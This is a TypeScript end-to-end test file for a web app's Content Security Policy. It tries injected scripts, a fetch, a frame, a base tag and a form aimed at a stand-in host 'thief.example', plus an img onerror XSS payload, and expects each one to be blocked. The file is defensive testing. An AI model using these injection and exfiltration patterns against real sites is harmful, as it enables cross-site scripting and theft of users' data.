import type { Page } from 'playwright-core'
import { expect, inject, test } from 'vitest'
import { openPerson, type Person } from '../person/open-person.ts'

/** What somebody would try who had found a way to bring a text into the page. True when it worked. */
const tries: Record<string, (page: Page) => Promise<boolean>> = {
  'require-trusted-types-for': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      script.text = 'window.taken = true'
      document.head.append(script)
      return 'taken' in window
    }),
  'script-src-elem': (page) =>
    page.evaluate(async () => {
      const script = document.createElement('script')
      const loaded = new Promise<boolean>((done) => {
        script.onload = () => done(true)
        script.onerror = () => done(false)
      })
      // Past the page's own doubt: this address is one that it lets through, to a policy that does not name it.
      script.src = 'https://js.stripe.com/v3/'
      document.head.append(script)
      return loaded
    }),
  'style-src-elem': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style')
      style.append('body { opacity: 0.5 }')
      document.head.append(style)
      return getComputedStyle(document.body).opacity !== '1'
    }),
  'connect-src': (page) =>
    page.evaluate(() =>
      fetch('https://thief.example/').then(
        () => true,
        () => false,
      ),
    ),
  'frame-src': (page) =>
    page.evaluate(() => {
      const frame = document.createElement('iframe')
      frame.src = 'https://thief.example/'
      document.body.append(frame)
      return false
    }),
  'base-uri': (page) =>
    page.evaluate(() => {
      const base = document.createElement('base')
      base.href = 'https://thief.example/'
      document.head.append(base)
      return document.baseURI.includes('thief')
    }),
  'form-action': (page) =>
    page.evaluate(() => {
      const form = document.createElement('form')
      form.action = 'https://thief.example/'
      document.body.append(form)
      form.requestSubmit()
      return false
    }),
}

/** The home page with the app, which a sign of a visitor loads. */
const openApp = async ({ page }: Person) => {
  await page.goto('/')
  await page.mouse.move(50, 50, { steps: 3 })
  await page.locator('.shell').waitFor({ state: 'detached' })
}

test.for(Object.keys(tries))('a page is not talked into %s', async (directive) => {
  const person = await openPerson(inject('appUrl'), { language: 'en', size: 'desk' })
  try {
    const { page } = person
    await page.context().route(/^https:/, (route) => route.fulfill({ body: '' }))
    await openApp(person)
    expect(person.faults).toEqual([])
    expect(await tries[directive]?.(page).catch(() => false)).toBe(false)
    await expect.poll(() => person.faults.join('\n')).toContain(`against the policy: ${directive} `)
    expect(new URL(page.url()).pathname).toBe('/')
  } finally {
    await person.leave()
  }
})

test('markup that a library hands to the page is refused while nobody cleans it', async () => {
  const person = await openPerson(inject('appUrl'), { language: 'en', size: 'desk' })
  try {
    await openApp(person)
    const refused = await person.page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.taken = true">')
        return false
      } catch (error) {
        return error instanceof TypeError
      }
    })
    expect(refused).toBe(true)
  } finally {
    await person.leave()
  }
})
